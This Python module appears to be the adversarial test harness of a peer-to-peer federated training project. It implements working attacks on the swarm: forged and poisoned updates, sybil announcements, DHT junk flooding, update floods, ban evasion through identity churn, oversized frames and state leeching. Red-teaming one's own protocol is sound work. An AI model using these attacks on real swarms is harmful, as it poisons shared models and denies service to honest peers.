"""The attacks of ``p2pfm attack``, one coroutine each, run side by side by :class:`Attacker`.

Targets are the live peers of the swarm as our persona's peer book sees them (their signed
announcements, refreshed every second); their announced rounds drive every update attack.
Announcements lag a peer's real round by up to a heartbeat, so updates claim the round
extrapolated at the peer's pace + ``lead``: inside a receiver's window (``max_round_lag``
behind, 4x ahead) either way.
Each attack counts the answers it gets in the :class:`~p2pfm.daemon.attacker.AttackLog`.
"""

from __future__ import annotations

import asyncio
import logging
import os
import time
from collections import Counter
from collections.abc import Awaitable, Callable

import numpy as np

from p2pfm.core.announce import Announcement
from p2pfm.core.attacks import AttackSpec, forge_update
from p2pfm.core.codecs import CodecSpec, encode
from p2pfm.core.envelope import seal
from p2pfm.core.identity import Identity
from p2pfm.core.protocol import LocalWork, anchor_hash, update_payload
from p2pfm.daemon.attacker import AttackConfig, AttackLog, claim
from p2pfm.daemon.handlers import Refused, StreamClient, StreamHandlers
from p2pfm.daemon.probe import exchange, messages_for
from p2pfm.daemon.runtime import PeerRuntime

log = logging.getLogger("p2pfm.attack")

REFRESH_S = 1.0  # how often we re-read the swarm's announcements
SUMMARY_S = 2.0  # how often the log gets fresh summary lines
SYBIL_FUTURE_S = 100.0  # sybil announcements are dated this far ahead (receivers allow 120 s of skew)
SYBIL_REFRESH_S = 20.0  # ... and re-stored this often
MAX_PACE = 20.0  # rounds a second we believe a peer runs (a tiny model on a fast CPU: ~3)


class Attacker:
    """One malicious process: a persona (a peer runtime with a poisoned state) and its attacks."""

    def __init__(self, config: AttackConfig, runtime: PeerRuntime, attack_log: AttackLog) -> None:
        self.config = config
        self.rt = runtime
        self.log = attack_log
        self.client = StreamClient(runtime)
        self.stop_event = asyncio.Event()
        self.rng = np.random.default_rng(int.from_bytes(os.urandom(8), "little"))
        self.spec = AttackSpec(config.forge, config.forge_scale)
        self.keys = [runtime.protocol.identity] + [Identity.generate() for _ in range(config.keys - 1)]
        self.sybils: set[str] = set()  # our own fake identities: never targets
        self._honest: np.ndarray | None = None  # our estimate of one round's honest pseudo-gradient
        self._honest_at = float("-inf")
        self._seq = time.time_ns()
        # peer -> its last two announcements' (timestamp, round): its pace
        self._heard: dict[str, tuple[tuple[float, int], tuple[float, int]]] = {}

    # --- the swarm -------------------------------------------------------------------------
    @property
    def peer_id(self) -> str:
        return self.rt.peer_id

    def targets(self) -> dict[str, Announcement]:
        """The live honest peers (everyone announced but us and our sybils; only ``--target`` if given)."""
        wanted = self.config.target
        return {
            p: a for p, a in self.rt.live.items() if p not in self.sybils and (wanted is None or p == wanted)
        }

    def newest_round(self) -> int:
        """The swarm's newest round *now*: announcements are up to a heartbeat old, and a tiny model
        runs several rounds per heartbeat, so each is extrapolated at its peer's observed pace."""
        now = time.time()
        return max((self.estimated_round(p, a, now) for p, a in self.targets().items()), default=0)

    def round_of(self, target: Announcement) -> int:
        return self.estimated_round(target.peer_id, target, time.time())

    def claim_for(self, target: Announcement) -> int:
        """The round an update to ``target`` claims: its round now (estimated) + ``lead``."""
        return self.round_of(target) + self.config.lead

    def estimated_round(self, peer_id: str, announcement: Announcement, now: float) -> int:
        """``announcement``'s round advanced at the pace between its peer's last two announcements
        (at most MAX_PACE rounds a second: a joiner's jump to the swarm's round is no pace)."""
        last = (announcement.timestamp, announcement.round)
        previous, current = self._heard.get(peer_id, (last, last))
        if last != current:
            previous, current = current, last
            self._heard[peer_id] = (previous, current)
        elapsed = current[0] - previous[0]
        pace = min(MAX_PACE, (current[1] - previous[1]) / elapsed) if elapsed > 0 else 0.0
        return announcement.round + int(max(0.0, pace) * max(0.0, now - announcement.timestamp))

    async def start(self) -> None:
        await self.rt.net.start()
        await StreamHandlers(self.rt).install()
        self.update_claim()
        self.log.event(
            "online", peer_id=self.peer_id, libp2p_id=self.rt.net.libp2p_id, maddrs=self.rt.net.maddrs,
            attacks=list(self.config.attacks), keys=[k.peer_id for k in self.keys],
            announced_round=self.rt.protocol.round, model_hash=self.rt.snapshot.hash,
        )  # fmt: skip
        log.info(
            "attacker %s online (libp2p %s): %s", self.peer_id, self.rt.net.libp2p_id, self.config.attacks
        )

    def update_claim(self) -> None:
        """The round our persona announces: a lie (far_ahead) or the swarm's newest (looks honest)."""
        if "far_ahead" in self.config.attacks:
            ahead = self.config.ahead
            claim(self.rt, self.newest_round() + ahead if ahead is not None else self.config.claim_round)
        else:
            claim(self.rt, self.newest_round())

    async def watch(self) -> None:
        """Refresh the swarm view every second; announce every heartbeat and whenever our claim
        moves; note what we served."""
        last_announce = float("-inf")
        served = (0, 0)
        announced = -1
        while not self.stop_event.is_set():
            await self.rt.refresh_live()
            self.update_claim()
            # Re-announced at once when the claim moves: a claim "3 ahead" must stay ahead of rounds
            # that advance faster than heartbeats.
            due = time.time() - last_announce >= self.rt.config.net.heartbeat_s
            if self.config.announce and (due or self.rt.protocol.round != announced):
                announced = self.rt.protocol.round
                # Announced like a peer, but hearing nobody (``sees`` empty): we never complete a
                # joiner's start-up quorum, so a swarm starts training with its real peers only.
                stored = await self.rt.net.announce(
                    {**self.rt.announcement_payload(), "sees": []}, time.time()
                )
                last_announce = time.time()
                self.log.event(
                    "announced", round=announced, stored=stored,
                    swarm={p: a.round for p, a in self.targets().items()},
                )  # fmt: skip
            c = self.rt.counters
            now_served = (c["state_bytes_served"], c["sync_bytes_sent"])
            if now_served != served:
                self.log.event(
                    "served", state_bytes=now_served[0], params_bytes=now_served[1],
                    announced_round=self.rt.protocol.round,
                )  # fmt: skip
                served = now_served
            await self._sleep(REFRESH_S)

    async def report(self) -> None:
        while not self.stop_event.is_set():
            await self._sleep(SUMMARY_S)
            self.persona_tally()
            self.log.summaries()

    def persona_tally(self) -> None:
        c, tally = self.rt.counters, self.log.tallies.setdefault("persona", Counter())
        tally["state_bytes_served"] = c["state_bytes_served"]
        tally["params_bytes_served"] = c["sync_bytes_sent"]
        tally["updates_received"] = self.rt.protocol.accepted
        tally["announced_round"] = self.rt.protocol.round

    async def _sleep(self, seconds: float) -> None:
        try:
            await asyncio.wait_for(self.stop_event.wait(), seconds)
        except TimeoutError:
            pass

    async def wait_for_targets(self) -> bool:
        while not self.stop_event.is_set():
            if self.targets():
                return True
            await self._sleep(0.3)
        return False

    # --- sending ---------------------------------------------------------------------------
    async def send(
        self, libp2p_id: str, stream: str, message: bytes | int, timeout: float = 10.0
    ) -> dict | None:
        """One message on a fresh stream to ``libp2p_id``; the peer's answer, or None if the call failed."""
        try:
            reader, writer = await asyncio.wait_for(self.rt.net.open_stream(libp2p_id, stream), timeout)
        except Exception as exc:
            log.debug("could not open %s to %s: %r", stream, libp2p_id, exc)
            return None
        try:
            return await exchange(reader, writer, message, timeout)
        except Exception as exc:
            log.debug("%s to %s failed: %r", stream, libp2p_id, exc)
            return None

    async def honest_estimate(self) -> np.ndarray:
        """One round's honest pseudo-gradient, estimated from a target's parameters (pulled like a
        sync, every 10 s): (initial - theirs) / their round. Random small noise if nobody serves us."""
        if self._honest is not None and time.time() - self._honest_at < 10.0:
            return self._honest
        initial = self.rt.protocol.initial_params
        estimate = None
        for target in self.targets().values():
            try:
                params, round_ = await self.client.pull_params(target)
            except Exception as exc:
                self.log.count("honest_estimate", f"pull_failed:{type(exc).__name__}")
                continue
            self.log.count("honest_estimate", "pulls")
            self.log.count("honest_estimate", "params_bytes_received", params.nbytes)  # decoded
            estimate = ((initial - params) / max(round_, 1)).astype(np.float32)
            break
        if estimate is None or not np.any(estimate):
            estimate = (self.rng.standard_normal(initial.size) * 1e-3).astype(np.float32)
        self._honest, self._honest_at = estimate, time.time()
        return estimate

    def update(self, identity: Identity, round_: int, wire: dict) -> bytes:
        """A validly signed update of ``identity`` claiming ``round_`` (the peer's own payload builder)."""
        self._seq += 1
        work = LocalWork(samples=16 * 8, inner_steps=8, train_loss=2.0)
        payload = update_payload(wire, work, anchor_hash(self.rt.protocol.initial_params))
        return seal(
            identity, kind="update", run_id=self.config.run_id, round=round_, seq=self._seq,
            timestamp=time.time(), payload=payload,
        )  # fmt: skip

    async def forged_wire(self) -> dict:
        forged = forge_update(self.spec, await self.honest_estimate(), self.rng)
        return encode(forged, CodecSpec())

    async def push_forged(self, attack: str, target: Announcement, rounds: list[int]) -> None:
        """Forged updates claiming each of ``rounds`` from each of our keys to ``target``."""
        for round_ in rounds:
            for identity in self.keys:
                try:
                    message = self.update(identity, round_, await self.forged_wire())
                except Exception as exc:  # e.g. the codec refuses NaN: that is the nan attack's answer
                    self.log.count(attack, f"not_encodable:{type(exc).__name__}")
                    continue
                self.log.answer(attack, await self.send(target.libp2p_id, "gossip", message))

    async def every_target(self, attack: str, rounds_for: Callable[[Announcement], list[int]]) -> None:
        """Each ``interval_s``, push forged updates for ``rounds_for(target)`` to every target."""
        if not await self.wait_for_targets():
            return
        while not self.stop_event.is_set():
            await asyncio.gather(
                *(self.push_forged(attack, t, rounds_for(t)) for t in self.targets().values())
            )
            await self._sleep(self.config.interval_s)

    # --- the attacks -----------------------------------------------------------------------
    async def far_ahead(self) -> None:
        """The lie is in our announcement (:meth:`update_claim`); here we log what it claims."""
        if not await self.wait_for_targets():
            return
        await self._sleep(REFRESH_S)
        self.log.event("claiming", round=self.rt.protocol.round, model_hash=self.rt.snapshot.hash)

    async def poisoned_state(self) -> None:
        """Served by the persona's handlers to whoever asks (state downloads and syncs); logged by
        :meth:`watch` as ``served`` events."""
        self.log.event("serving", state=self.config.state, state_bytes=self.rt.snapshot.size)

    async def updates(self) -> None:
        await self.every_target("updates", lambda t: [self.claim_for(t)])

    async def many_rounds(self) -> None:
        """One key claiming many rounds at once: each (sender, round) is a separate inbox entry."""
        await self.every_target(
            "many_rounds",
            lambda t: list(range(self.round_of(t), self.round_of(t) + self.config.rounds_per_round)),
        )

    async def drain(self) -> None:
        """Wait for targets to finish their last round, then push forged updates into their drain."""
        final = self.config.final_round
        while not self.stop_event.is_set():
            draining = {p: a for p, a in self.targets().items() if a.round >= final}
            if draining:
                break
            await self._sleep(0.2)
        else:
            return
        self.log.event("draining_targets", peers=sorted(draining), round=final)
        while not self.stop_event.is_set():
            draining = {p: a for p, a in self.targets().items() if a.round >= final}
            await asyncio.gather(
                *(self.push_forged("drain", t, [final - 1, final]) for t in draining.values())
            )
            await self._sleep(min(self.config.interval_s, 0.25))

    async def sybil(self) -> None:
        """``count`` fresh identities announced like peers, each pointing at our libp2p host."""
        count = self.config.count_for("sybil", 200)
        identities = [Identity.generate() for _ in range(count)]
        self.sybils.update(i.peer_id for i in identities)
        if not await self.wait_for_targets():
            return
        net = self.rt.net
        while not self.stop_event.is_set():
            # Dated ahead by most of the allowed clock skew: each record then stays "live" for
            # skew + TTL (~2 min), not one TTL, so 200 of them stay up without a 4 s refresh.
            now = time.time() + SYBIL_FUTURE_S
            # Hearing nobody, like our persona: sybils that claimed to hear a joiner would complete its
            # start-up quorum (a further attack, not replayed here).
            payload = {**self.rt.announcement_payload(), "round": self.newest_round(), "sees": []}
            stored = await asyncio.gather(*(self._store_announcement(i, payload, now) for i in identities))
            self.log.count("sybil", "stored", sum(stored))
            self.log.count("sybil", "store_failed", len(stored) - sum(stored))
            self.log.event("sybils_announced", count=count, stored=sum(stored), dht_key=net.dht_key)
            await self._sleep(SYBIL_REFRESH_S)

    async def _store_announcement(self, identity: Identity, payload: dict, now: float) -> bool:
        self._seq += 1
        record = seal(
            identity, kind="announce", run_id=self.config.run_id, round=payload["round"], seq=self._seq,
            timestamp=now, payload=payload,
        )  # fmt: skip
        net = self.rt.net
        try:
            future = net.dht.store(
                net.dht_key, record, expiration_time=now + net.config.announce_ttl_s,
                subkey=identity.peer_id, return_future=True,
            )  # fmt: skip
            return bool(await asyncio.wait_for(future, net.config.request_timeout_s * 4))
        except Exception:
            return False

    async def dht_junk(self) -> None:
        """``count`` junk records under the swarm's key from a plain DHT node (no validator), one of them
        over a live peer's subkey, each for an hour."""
        import hivemind
        from hivemind.utils import get_dht_time

        count = self.config.count_for("dht_junk", 5000)
        if not await self.wait_for_targets():
            return
        victim = sorted(self.targets())[0]
        loop = asyncio.get_running_loop()
        dht = await loop.run_in_executor(
            None, lambda: hivemind.DHT(initial_peers=list(self.config.initial_peers), start=True)
        )
        try:
            key, expiration = self.rt.net.dht_key, get_dht_time() + 3600
            subkeys = [victim] + [f"junk-{i}-{os.urandom(4).hex()}" for i in range(count - 1)]
            for start in range(0, count, 250):
                batch = subkeys[start : start + 250]
                stores = [
                    dht.store(key, os.urandom(64), expiration, subkey=subkey, return_future=True)
                    for subkey in batch
                ]
                results = await asyncio.gather(*stores, return_exceptions=True)
                ok = sum(1 for v in results if v is True)
                self.log.count("dht_junk", "stored", ok)
                self.log.count("dht_junk", "store_failed", len(batch) - ok)
            self.log.event(
                "dht_junk_stored", count=count, victim=victim, tallies=dict(self.log.tallies["dht_junk"])
            )
            await self.stop_event.wait()  # keep our node (and its copies of the junk) up
        finally:
            await loop.run_in_executor(None, dht.shutdown)

    async def _paced(
        self, attack: str, total: int | None, rate: float, make: Callable[[], Awaitable[None]]
    ) -> None:
        """Run ``make`` ``total`` times (None: until stopped) at ``rate`` per second, 16 at a time."""
        sent = 0
        started = time.time()
        pending: set[asyncio.Task] = set()
        while not self.stop_event.is_set() and (total is None or sent < total):
            due = started + sent / rate
            if due > time.time():
                await asyncio.sleep(due - time.time())
            while len(pending) >= 16:
                _, pending = await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
            pending.add(asyncio.create_task(make()))
            sent += 1
        if pending:
            await asyncio.wait(pending)
        self.log.event(f"{attack}_done", sent=sent, seconds=time.time() - started)

    async def flood(self) -> None:
        """Valid updates (of the --forge kind) at ``rate`` per second in all, round-robin over targets."""
        if not await self.wait_for_targets():
            return
        wire = await self.forged_wire()
        turn = iter(range(1 << 62))

        async def one() -> None:
            targets = list(self.targets().values())
            if not targets:
                return
            i = next(turn)
            target, identity = targets[i % len(targets)], self.keys[i % len(self.keys)]
            message = self.update(identity, self.claim_for(target), wire)
            self.log.answer("flood", await self.send(target.libp2p_id, "gossip", message))

        await self._paced("flood", None, self.config.rate, one)

    async def burst(self) -> None:
        """``count`` valid top-k updates sent at once to every target, spread over our keys."""
        if not await self.wait_for_targets():
            return
        count = self.config.count_for("burst", 400)
        wire = encode((await self.honest_estimate()) + 0.0, CodecSpec())
        for target in list(self.targets().values()):
            messages = [
                self.update(self.keys[i % len(self.keys)], self.claim_for(target), wire) for i in range(count)
            ]
            self.log.event("burst_start", target=target.peer_id, count=count, bytes=sum(map(len, messages)))
            answers = await asyncio.gather(
                *(self.send(target.libp2p_id, "gossip", m, 60.0) for m in messages)
            )
            for answer in answers:
                self.log.answer("burst", answer)
            self.log.event("burst_done", target=target.peer_id, count=count)

    async def id_churn(self) -> None:
        """Rejected (forged-signature) messages, ``every`` per fresh libp2p identity: a ban at 50
        rejections per libp2p id never comes."""
        from hivemind.p2p import P2P, PeerID

        if not await self.wait_for_targets():
            return
        total, every = self.config.count_for("id_churn", 450), self.config.every
        target = sorted(self.targets().values(), key=lambda a: a.peer_id)[0]
        maddr = (
            next(m for m in target.maddrs if "/p2p/" in m)
            if any("/p2p/" in m for m in target.maddrs)
            else None
        )
        initial = [maddr] if maddr else list(self.config.initial_peers)
        sent, identities = 0, 0
        while sent < total and not self.stop_event.is_set():
            p2p = await P2P.create(initial_peers=initial, host_maddrs=["/ip4/127.0.0.1/tcp/0"])
            identities += 1
            try:
                for _ in range(min(every, total - sent)):
                    message = messages_for(
                        "forged", self.config.run_id, 1, target.round, Identity.generate()
                    )[0]
                    try:
                        _, reader, writer = await asyncio.wait_for(
                            p2p.call_binary_stream_handler(
                                PeerID.from_base58(target.libp2p_id), f"/p2pfm/{self.config.run_id}/gossip/1"
                            ),
                            10.0,
                        )
                        self.log.answer("id_churn", await exchange(reader, writer, message))
                    except Exception:
                        self.log.answer("id_churn", None)
                    sent += 1
            finally:
                await p2p.shutdown()
        self.log.count("id_churn", "identities", identities)
        self.log.event("id_churn_done", sent=sent, identities=identities, target=target.peer_id)

    async def big_frames(self) -> None:
        """``count`` frames of ``frame_mib`` MiB of junk, sent in parallel to every target."""
        if not await self.wait_for_targets():
            return
        count = self.config.count_for("big_frames", 4)
        junk = bytes(self.config.frame_mib << 20)
        for target in list(self.targets().values()):
            answers = await asyncio.gather(
                *(self.send(target.libp2p_id, "gossip", junk, 120.0) for _ in range(count))
            )
            for answer in answers:
                self.log.answer("big_frames", answer)
            self.log.event("big_frames_done", target=target.peer_id, count=count, frame_bytes=len(junk))

    async def state_leech(self) -> None:
        """Ask every target for its full state and its parameters, ``count`` times; count what we get."""
        if not await self.wait_for_targets():
            return
        for _ in range(self.config.count_for("state_leech", 5)):
            for target in list(self.targets().values()):
                before = self.rt.counters["state_bytes_downloaded"]
                try:
                    await self.client.download_state(target)
                    self.log.answer("state_leech", {"ok": True})
                except Refused as exc:
                    self.log.answer("state_leech", {"ok": False, "reason": str(exc).rsplit(": ", 1)[-1]})
                except Exception as exc:
                    self.log.answer("state_leech", {"ok": False, "reason": type(exc).__name__})
                self.log.count(
                    "state_leech", "state_bytes_received", self.rt.counters["state_bytes_downloaded"] - before
                )
                try:
                    params, _ = await self.client.pull_params(target)
                    self.log.answer("params_leech", {"ok": True})
                    self.log.count("params_leech", "params_bytes_received", params.nbytes)  # decoded
                except Refused as exc:
                    self.log.answer("params_leech", {"ok": False, "reason": str(exc).rsplit(": ", 1)[-1]})
                except Exception as exc:
                    self.log.answer("params_leech", {"ok": False, "reason": type(exc).__name__})
            if self.stop_event.is_set():
                break
        self.log.event("state_leech_done")

    # --- life ------------------------------------------------------------------------------
    async def run(self) -> None:
        tasks = [asyncio.create_task(self.watch()), asyncio.create_task(self.report())]
        tasks += [asyncio.create_task(self._guarded(name)) for name in self.config.attacks]
        if self.config.duration_s:
            asyncio.get_running_loop().call_later(self.config.duration_s, self.stop_event.set)
        await self.stop_event.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _guarded(self, name: str) -> None:
        """One attack; an exception is logged (an attack that fails must not end the others)."""
        try:
            await getattr(self, name)()
        except asyncio.CancelledError:
            raise
        except Exception as exc:
            log.exception("attack %s failed", name)
            self.log.event("attack_failed", attack=name, error=repr(exc))

    async def shutdown(self) -> None:
        self.persona_tally()
        self.log.summaries(final=True)
        self.log.event("offline")
        if self.config.announce:
            try:
                await asyncio.wait_for(self.rt.net.withdraw(self.rt.announcement_payload()), 5.0)
            except Exception:
                pass
        await self.rt.net.shutdown()
        self.rt.metrics.close()
        self.log.close()
